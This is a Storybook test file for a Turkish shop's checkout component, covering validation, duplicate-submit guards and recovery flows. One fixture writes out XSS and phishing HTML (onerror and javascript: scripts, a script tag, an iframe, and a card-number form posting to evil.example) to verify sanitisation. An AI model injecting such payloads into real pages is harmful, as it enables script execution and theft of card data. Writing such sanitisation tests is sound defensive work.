import type { Meta, StoryObj } from '@storybook/react-vite';
import { addProductsToBasket } from '@vitrin/api-client/basket/addToBasket';
import { createOrder } from '@vitrin/api-client/basket/order';
import { getBasket, readBasket } from '@vitrin/api-client/basket/basket';
import { getCheckout, readCheckout } from '@vitrin/api-client/checkout/checkout';
import { basket } from '@vitrin/demo-server/fixtures/basket';
import * as checkouts from '@vitrin/demo-server/fixtures/checkout';
import { given } from '@vitrin/demo-server/given';
import { expect, fn, screen, spyOn, waitFor, within } from 'storybook/test';
import { LeaveAndReturn } from '../../../../../.storybook/LeaveAndReturn.tsx';
import { later } from '../../../../../.storybook/later.ts';
import { linesToRestore } from '../../features/basket/useRestoreLines.ts';
import { RequireSession } from '../../features/session/RequireSession/RequireSession.tsx';
import { ToastRegion } from '../../primitives/Toast/ToastRegion.tsx';
import { Checkout } from './Checkout.tsx';

const meta = {
  component: Checkout,
  tags: ['!autodocs'],
  args: { orderId: '100001', onFinished: fn() },
  beforeEach: ({ msw }) => msw.use(given.checkout(checkouts.checkout)),
} satisfies Meta<typeof Checkout>;
export default meta;
type Story = StoryObj<typeof meta>;

const phone = { viewport: { value: 'phone' } };
const full = readCheckout(checkouts.checkout);
const twoAddresses = {
  ...checkouts.checkout,
  adreses: [...(checkouts.checkout.adreses ?? []), { id: 12, yetkili: 'Ahmet Karadağ – Merkez Depo' }],
};
const [account] = full.bankAccounts;

/** A shop that keeps what is done to it, with an order to finish. */
const inAShop: Story['beforeEach'] = async ({ msw }) => {
  msw.use(...given.session('dealer'));
  await addProductsToBasket(linesToRestore(readBasket(basket).lines).slice(0, 2));
  await createOrder({ basketId: (await getBasket()).id, note: '' });
};

const finishes = () => {
  const spy = spyOn(globalThis, 'fetch');
  return () =>
    spy.mock.calls.flatMap(([request]) =>
      request instanceof Request && request.url.includes('/basket/checkout2/') ? [request] : [],
    );
};

export const Default: Story = {
  parameters: { covers: ['CHKT-01'] },
  play: async ({ canvas }) => {
    const trail = within(canvas.getByRole('navigation', { name: 'Sayfa yolu' }));
    await expect(trail.getByRole('link', { name: 'Sepetim' })).toHaveAttribute('href', '/spa/basket/');
    await expect(trail.getByText('Sipariş Teslimat & Ödeme Bilgileri')).toHaveAttribute(
      'aria-current',
      'page',
    );
    await expect(await canvas.findByRole('heading', { name: 'Teslimat Şekli' })).toBeVisible();
    await expect(canvas.getByRole('heading', { name: 'Ödeme Şekli' })).toBeVisible();
    await expect(canvas.getByRole('radiogroup', { name: 'Banka Hesapları' })).toBeVisible();
    await expect(canvas.getByText(full.totalText)).toBeVisible();
    await expect(canvas.getByRole('button', { name: 'Siparişi Bitir' })).toBeVisible();
  },
};
export const Loading: Story = {
  beforeEach: ({ msw }) => msw.use(given.checkoutPending()),
  play: async ({ canvasElement }) => {
    await waitFor(() => expect(canvasElement.querySelector('[aria-busy="true"]')).toBeVisible());
  },
};
export const Failed: Story = {
  beforeEach: ({ msw }) => msw.use(given.checkoutFails()),
  parameters: { covers: ['FAIL-01'] },
  play: async ({ canvas }) => {
    await expect(await canvas.findByRole('button', { name: 'Tekrar Dene' })).toBeVisible();
    await expect(canvas.getByText('Bir şeyler ters gitti.')).toBeVisible();
  },
};
export const NotFound: Story = {
  beforeEach: ({ msw }) => msw.use(given.checkout(checkouts.checkoutNotFound)),
  parameters: { covers: ['CHKT-08'] },
  play: async ({ canvas }) => {
    await expect(await canvas.findByText('Sipariş bulunamadı')).toBeVisible();
    await expect(canvas.queryByRole('button', { name: 'Siparişi Bitir' })).toBeNull();
  },
};
export const Disabled: Story = {
  beforeEach: ({ msw }) => msw.use(given.checkout(checkouts.checkoutFinishDisabled)),
  parameters: { covers: ['CHKT-06'] },
  play: async ({ canvas, userEvent, args }) => {
    const sent = finishes();
    await userEvent.click(await canvas.findByRole('radio', { name: 'Açık Hesap' }));
    const button = canvas.getByRole('button', { name: 'Siparişi Bitir' });
    await expect(button).toHaveAttribute('aria-disabled', 'true');
    await userEvent.click(button);
    await expect(sent()).toHaveLength(0);
    await expect(args.onFinished).not.toHaveBeenCalled();
  },
};
export const Invalid: Story = {
  beforeEach: ({ msw }) => msw.use(given.checkout(twoAddresses)),
  parameters: { covers: ['CHKT-02', 'CHKT-04'] },
  play: async ({ canvas, userEvent }) => {
    const sent = finishes();
    await userEvent.click(await canvas.findByRole('radio', { name: 'Kargo' }));
    await userEvent.click(canvas.getByRole('button', { name: 'Siparişi Bitir' }));
    const address = canvas.getByRole('combobox', { name: 'Teslimat Adresi' });
    await waitFor(() => expect(address).toHaveFocus());
    await expect(address).toBeInvalid();
    await expect(canvas.getByText('Havale yapacağınız banka hesabını seçin.')).toBeVisible();
    await expect(canvas.getByText('Maalesef, tüm alanlar doğru doldurulmadı.')).toBeVisible();
    await userEvent.click(canvas.getByRole('button', { name: 'Siparişi Bitir' }));
    await expect(address).toHaveFocus();
    await expect(sent()).toHaveLength(0);
  },
};
export const Submitting: Story = {
  beforeEach: ({ msw }) => msw.use(given.finishPending()),
  play: async ({ canvas, userEvent }) => {
    await userEvent.click(await canvas.findByRole('radio', { name: 'Açık Hesap' }));
    await userEvent.click(canvas.getByRole('button', { name: 'Siparişi Bitir' }));
    await waitFor(() => expect(canvas.getByRole('radio', { name: 'Kargo' })).toBeDisabled());
  },
};
export const Rejected: Story = {
  beforeEach: ({ msw }) => msw.use(given.finish(checkouts.finishRejected)),
  parameters: { covers: ['CHKT-05', 'FAIL-02'] },
  play: async ({ canvas, userEvent, args }) => {
    await userEvent.click(await canvas.findByRole('radio', { name: 'Açık Hesap' }));
    await userEvent.click(canvas.getByRole('button', { name: 'Siparişi Bitir' }));
    await expect(await canvas.findByText('Bir hata oluştu.')).toBeVisible();
    await expect(canvas.getByText('Lütfen teslimat adresi seçin.')).toBeVisible();
    await expect(canvas.getByRole('radio', { name: 'Açık Hesap' })).toBeChecked();
    await expect(args.onFinished).not.toHaveBeenCalled();
  },
};
export const Guest: Story = {
  globals: { session: 'guest' },
  render: (args) => (
    <RequireSession onLogin={args.onFinished}>
      <Checkout {...args} />
    </RequireSession>
  ),
  play: async ({ args, canvas }) => {
    await waitFor(() => expect(args.onFinished).toHaveBeenCalledOnce());
    await expect(canvas.queryByRole('radio')).toBeNull();
  },
};
export const Dealer: Story = { globals: { session: 'dealer' } };
export const Delegated: Story = { globals: { session: 'delegated' } };
export const Admin: Story = { globals: { session: 'admin' } };
export const Mobile: Story = { globals: phone };
export const MobileNotFound: Story = { ...NotFound, globals: phone };
export const MobileFailed: Story = {
  beforeEach: ({ msw }) => msw.use(given.checkoutFails()),
  globals: phone,
};
export const MobileLoading: Story = {
  beforeEach: ({ msw }) => msw.use(given.checkoutPending()),
  globals: phone,
};
export const Tablet: Story = { globals: { viewport: { value: 'tablet' } } };
export const Laptop: Story = { globals: { viewport: { value: 'laptop' } } };
export const Dark: Story = { globals: { scheme: 'dark' } };
export const ForeignCurrency: Story = {
  beforeEach: ({ msw }) => msw.use(given.checkout(checkouts.checkoutForeignCurrency)),
};
export const Bare: Story = { beforeEach: ({ msw }) => msw.use(given.checkout(checkouts.checkoutBare)) };
export const OpenAccountByDefault: Story = {
  beforeEach: ({ msw }) => msw.use(given.checkout(checkouts.checkoutOpenAccount)),
  parameters: { covers: ['CHKT-03'] },
  play: async ({ canvas }) => {
    await expect(await canvas.findByRole('radio', { name: 'Açık Hesap' })).toBeChecked();
    await expect(await canvas.findByText(/gün vadeli/)).toBeVisible();
  },
};

/** Terms as an editor pastes them, and as somebody else would like them to be. */
const terms = `<h3>Açık hesap koşulları</h3>
<table width="1400"><tr>${['Vade', 'Limit', 'Kullanılan', 'Kalan', 'Faiz', 'Temsilci']
  .map((name) => `<th>${name}</th>`)
  .join('')}</tr><tr>${'<td>1.234.567,89&nbsp;TL</td>'.repeat(6)}</tr></table>
<p style="position:fixed;inset:0;width:2000px;color:#b00020">Bakiyenizi <a href="https://example.com/sozlesme">sözleşme</a>
kapsamında ödeyin.</p><p>${'x'.repeat(200)}</p><img src="x" onerror="document.title='çalıştı'" width="3000">
<form action="https://evil.example"><input name="cardNumber"><button>Öde</button></form>
<iframe src="https://evil.example"></iframe><a href="javascript:document.title='çalıştı'">tıkla</a>
<script>document.title='çalıştı'</script><style>main { display: none }</style>`;

export const MobileTerms: Story = {
  beforeEach: ({ msw }) =>
    msw.use(given.checkout({ ...checkouts.checkoutOpenAccount, acikHesapMessage: terms })),
  globals: phone,
  parameters: { covers: ['CHKT-01', 'FAIL-05'] },
  play: async ({ canvas, canvasElement, userEvent }) => {
    // What the server wrote is read when it comes near.
    (await canvas.findByRole('radio', { name: 'Açık Hesap' })).scrollIntoView();
    const table = await canvas.findByRole('table', {}, { timeout: 5000 });
    await expect(canvas.getByRole('link', { name: 'sözleşme' })).toHaveAttribute(
      'rel',
      'noopener noreferrer',
    );
    await userEvent.click(canvas.getByText('tıkla'));
    await expect(canvasElement.querySelector('iframe, script, style, [name="cardNumber"]')).toBeNull();
    await expect(canvas.queryByRole('button', { name: 'Öde' })).toBeNull();
    await expect(document.title).not.toBe('çalıştı');
    await expect(getComputedStyle(canvas.getByText(/kapsamında ödeyin/)).position).toBe('static');
    // What is wider than a phone scrolls in its own box, or stays within it.
    const section = canvas.getByRole('region', { name: 'Ödeme Şekli' }).getBoundingClientRect();
    const box = table.parentElement as HTMLElement;
    await expect(box.scrollWidth).toBeGreaterThan(box.clientWidth);
    await expect(box.getBoundingClientRect().right).toBeLessThanOrEqual(section.right);
    await expect(document.documentElement.scrollWidth).toBeLessThanOrEqual(innerWidth);
    await expect(canvas.getByRole('button', { name: 'Siparişi Bitir' })).toBeVisible();
  },
};

export const FinishesOnce: Story = {
  args: { orderId: String(basket.id) },
  beforeEach: inAShop,
  parameters: { covers: ['CHKT-04', 'FAIL-02'] },
  play: async ({ canvas, userEvent, args }) => {
    const sent = finishes();
    await userEvent.click(await canvas.findByRole('radio', { name: 'Kargo' }));
    const address = canvas.getByRole('combobox', { name: 'Teslimat Adresi' });
    await userEvent.selectOptions(address, String(full.addresses[0]?.id));
    const accounts = within(canvas.getByRole('radiogroup', { name: 'Banka Hesapları' }));
    await userEvent.click(accounts.getAllByRole('radio')[0] ?? address);
    await userEvent.dblClick(canvas.getByRole('button', { name: 'Siparişi Bitir' }));
    await waitFor(() => expect(args.onFinished).toHaveBeenCalledWith(String(basket.id)));
    await userEvent.click(canvas.getByRole('button', { name: 'Siparişi Bitir' }));
    await expect(args.onFinished).toHaveBeenCalledOnce();
    await expect(sent()).toHaveLength(1);
    await expect((await getCheckout(String(basket.id))).isNotFound).toBe(true);
  },
};

const raised = {
  ...checkouts.checkout,
  toplamTutarF: '98.765,43 TL',
  toplamTutarTL: 98_765.43,
  toplamTutarTLF: '98.765,43 TL',
};
/** What is finished is what is shown: a total that nobody has seen is shown first. */
export const AsksAnewWhenTheTotalChanges: Story = {
  beforeEach: ({ msw }) => msw.use(given.finish(checkouts.finished)),
  parameters: { covers: ['CHKT-04', 'CHKT-05'] },
  play: async ({ canvas, userEvent, args, msw }) => {
    const sent = finishes();
    await userEvent.click(await canvas.findByRole('radio', { name: 'Açık Hesap' }));
    msw.use(given.checkout(raised));
    await userEvent.click(canvas.getByRole('button', { name: 'Siparişi Bitir' }));
    await expect(await canvas.findByText(/^Sipariş bilgileri bu arada değişti\./)).toBeVisible();
    await expect(canvas.getByText(raised.toplamTutarF)).toBeVisible();
    await expect(sent()).toHaveLength(0);
    await userEvent.click(canvas.getByRole('button', { name: 'Siparişi Bitir' }));
    await waitFor(() => expect(args.onFinished).toHaveBeenCalledOnce());
    await expect(sent()).toHaveLength(1);
  },
};
export const AsksAnewWhenAChoiceIsGone: Story = {
  ...AsksAnewWhenTheTotalChanges,
  parameters: { covers: ['CHKT-02', 'CHKT-04', 'CHKT-06'] },
  play: async ({ canvas, userEvent, args, msw }) => {
    const sent = finishes();
    const [time = ''] = full.vehicleTimes;
    await userEvent.click(await canvas.findByRole('radio', { name: 'Açık Hesap' }));
    await userEvent.click(canvas.getByRole('radio', { name: 'Araç' }));
    await userEvent.selectOptions(canvas.getByRole('combobox', { name: 'Teslimat Saati' }), time);
    msw.use(given.checkout({ ...checkouts.checkout, teslimatAracActive: false, disableFinish: true }));
    await userEvent.click(canvas.getByRole('button', { name: 'Siparişi Bitir' }));
    await expect(await canvas.findByText(/^Sipariş bilgileri bu arada değişti\./)).toBeVisible();
    await expect(canvas.getByText('“Araç” artık sunulmuyor; Depodan Teslim seçildi.')).toBeVisible();
    await expect(sent()).toHaveLength(0);
    // Nor does it go where only the leave to finish was taken away.
    msw.use(given.checkout({ ...checkouts.checkout, teslimatAracActive: false }));
    window.dispatchEvent(new Event('visibilitychange'));
    const finish = canvas.getByRole('button', { name: 'Siparişi Bitir' });
    await waitFor(() => expect(finish).not.toHaveAttribute('aria-disabled'));
    msw.use(given.checkout({ ...checkouts.checkout, teslimatAracActive: false, disableFinish: true }));
    await userEvent.click(finish);
    await waitFor(() => expect(finish).toHaveAttribute('aria-disabled', 'true'));
    await expect(sent()).toHaveLength(0);
    await expect(args.onFinished).not.toHaveBeenCalled();
  },
};

export const SendsTheWholePayload: Story = {
  parameters: { covers: ['CHKT-04'] },
  beforeEach: ({ msw }) => msw.use(given.finish(checkouts.finished)),
  play: async ({ canvas, userEvent, args }) => {
    const bodies: unknown[] = [];
    const send = globalThis.fetch;
    spyOn(globalThis, 'fetch').mockImplementation(async (input, init) => {
      if (input instanceof Request && input.url.includes('checkout2'))
        bodies.push(await input.clone().json());
      return send(input, init);
    });
    const [time = ''] = full.vehicleTimes;
    await userEvent.click(await canvas.findByRole('radio', { name: 'Araç' }));
    await userEvent.selectOptions(canvas.getByRole('combobox', { name: 'Teslimat Saati' }), time);
    const accounts = within(canvas.getByRole('radiogroup', { name: 'Banka Hesapları' }));
    await userEvent.click(accounts.getAllByRole('radio')[0] ?? document.body);
    await userEvent.click(canvas.getByRole('button', { name: 'Siparişi Bitir' }));
    await waitFor(() => expect(args.onFinished).toHaveBeenCalledOnce());
    await expect(bodies).toEqual([
      {
        teslimSekli: 'arac',
        odemeSekli: 'havale',
        teslimAracSaat: time,
        teslimAdres: 0,
        teslimKuryeSaat: '',
        cardName: '',
        cardNumber: '',
        cardCVC: '',
        cardMonth: '',
        cardYear: '',
        addcomissionToAmount: false,
        installment: 0,
        installmentId: 0,
        odemeHavaleBanka: account?.id,
      },
    ]);
  },
};

const leaveAndReturn: Story['render'] = (args) => (
  <>
    <LeaveAndReturn>
      <Checkout {...args} />
    </LeaveAndReturn>
    <ToastRegion label="Bildirimler" closeLabel="Kapat" />
  </>
);

export const CannotFinishTwiceByGoingBack: Story = {
  beforeEach: ({ msw }) => msw.use(given.finish(checkouts.finished)),
  render: leaveAndReturn,
  parameters: { covers: ['CHKT-04', 'CHKT-08'] },
  play: async ({ canvas, userEvent, args }) => {
    await userEvent.click(await canvas.findByRole('radio', { name: 'Açık Hesap' }));
    await userEvent.click(canvas.getByRole('button', { name: 'Siparişi Bitir' }));
    await waitFor(() => expect(args.onFinished).toHaveBeenCalledOnce());
    await userEvent.click(canvas.getByRole('button', { name: 'Ayrıl' }));
    await userEvent.click(canvas.getByRole('button', { name: 'Geri' }));
    await expect(await canvas.findByText('Bu sipariş tamamlandı.')).toBeVisible();
    await expect(canvas.queryByRole('button', { name: 'Siparişi Bitir' })).toBeNull();
  },
};

/** Whoever has gone on to something else is told by a notice, and is not fetched back to the order. */
export const TellsWhoHasGoneOn: Story = {
  ...CannotFinishTwiceByGoingBack,
  parameters: { covers: ['CHKT-04'] },
  play: async ({ canvas, userEvent, args }) => {
    await userEvent.click(await canvas.findByRole('radio', { name: 'Açık Hesap' }));
    const leave = canvas.getByRole('button', { name: 'Ayrıl' });
    // In one task: no answer comes between.
    canvas.getByRole('button', { name: 'Siparişi Bitir' }).click();
    leave.click();
    const told = await screen.findByText('Siparişiniz Başarıyla Oluşturuldu.');
    await waitFor(() => expect(told).toBeVisible());
    await expect(args.onFinished).not.toHaveBeenCalled();
  },
};

export const TellsWhoHasGoneOnOfARefusal: Story = {
  ...TellsWhoHasGoneOn,
  beforeEach: Rejected.beforeEach,
  parameters: { covers: ['CHKT-05'] },
  play: async ({ canvas, userEvent }) => {
    await userEvent.click(await canvas.findByRole('radio', { name: 'Açık Hesap' }));
    const leave = canvas.getByRole('button', { name: 'Ayrıl' });
    canvas.getByRole('button', { name: 'Siparişi Bitir' }).click();
    leave.click();
    await expect(await screen.findByRole('alert')).toHaveTextContent('Lütfen teslimat adresi seçin.');
  },
};

export const TellsWhoHasGoneOnOfARefusalWithoutReasons: Story = {
  ...TellsWhoHasGoneOnOfARefusal,
  beforeEach: ({ msw }) => msw.use(given.finish({ hasError: true })),
  play: async ({ canvas, userEvent }) => {
    await userEvent.click(await canvas.findByRole('radio', { name: 'Açık Hesap' }));
    const leave = canvas.getByRole('button', { name: 'Ayrıl' });
    canvas.getByRole('button', { name: 'Siparişi Bitir' }).click();
    leave.click();
    await expect(await screen.findByRole('alert')).toHaveTextContent(
      'Sipariş tamamlanamadı. Tekrar deneyin.',
    );
  },
};

export const ChecksWhetherItWasFinished: Story = {
  beforeEach: ({ msw }) => msw.use(given.finishOffline()),
  parameters: { covers: ['FAIL-02'] },
  play: async ({ canvas, userEvent, args, msw }) => {
    const sent = finishes();
    await userEvent.click(await canvas.findByRole('radio', { name: 'Açık Hesap' }));
    await userEvent.click(canvas.getByRole('button', { name: 'Siparişi Bitir' }));
    await userEvent.click(await canvas.findByRole('button', { name: 'Durumu kontrol et' }));
    // What was sent a moment ago may still arrive: that the order is open yet says nothing.
    await expect(await canvas.findByText(/^Siparişiniz henüz tamamlanmış görünmüyor/)).toBeVisible();
    await expect(canvas.queryByRole('button', { name: 'Siparişi Bitir' })).toBeNull();
    await later(121_000, async () => {
      await userEvent.click(canvas.getByRole('button', { name: 'Durumu kontrol et' }));
      await expect(await canvas.findByText('Siparişiniz tamamlanmamış.')).toBeVisible();
    });
    await expect(sent()).toHaveLength(1);
    await later(242_000, async () => {
      await userEvent.click(canvas.getByRole('button', { name: 'Siparişi Bitir' }));
      const check = await canvas.findByRole('button', { name: 'Durumu kontrol et' });
      msw.use(given.checkout(checkouts.checkoutNotFound));
      await userEvent.click(check);
      await waitFor(() => expect(args.onFinished).toHaveBeenCalledWith('100001'));
    });
  },
};

export const FallsBackWhenAChoiceDisappears: Story = {
  parameters: { covers: ['CHKT-02', 'CHKT-03'] },
  play: async ({ canvas, userEvent, msw }) => {
    await userEvent.click(await canvas.findByRole('radio', { name: 'Araç' }));
    msw.use(
      given.checkout({
        ...checkouts.checkout,
        teslimatAracActive: false,
        odemeSekilleri: ['havale'],
      }),
    );
    // Coming back to the window asks again.
    window.dispatchEvent(new Event('visibilitychange'));
    await expect(await canvas.findByText('“Araç” artık sunulmuyor; Depodan Teslim seçildi.')).toBeVisible();
    await expect(canvas.getByRole('radio', { name: 'Depodan Teslim' })).toBeChecked();
    await userEvent.click(canvas.getByRole('radio', { name: 'Kargo' }));
    await expect(canvas.queryByText(/artık sunulmuyor/)).toBeNull();
  },
};
export const RecoversOnRetry: Story = {
  ...Failed,
  play: async ({ canvas, userEvent, msw }) => {
    const retry = await canvas.findByRole('button', { name: 'Tekrar Dene' });
    msw.use(given.checkout(checkouts.checkout));
    await userEvent.click(retry);
    await expect(await canvas.findByRole('button', { name: 'Siparişi Bitir' })).toBeVisible();
  },
};
export const ForgetsARefusalWhenTheFormChanges: Story = {
  ...Rejected,
  parameters: { covers: ['CHKT-05'] },
  play: async ({ canvas, userEvent }) => {
    await userEvent.click(await canvas.findByRole('radio', { name: 'Açık Hesap' }));
    await userEvent.click(canvas.getByRole('button', { name: 'Siparişi Bitir' }));
    await expect(await canvas.findByText('Bir hata oluştu.')).toBeVisible();
    await userEvent.click(canvas.getByRole('radio', { name: 'Kargo' }));
    await expect(canvas.queryByText('Bir hata oluştu.')).toBeNull();
  },
};
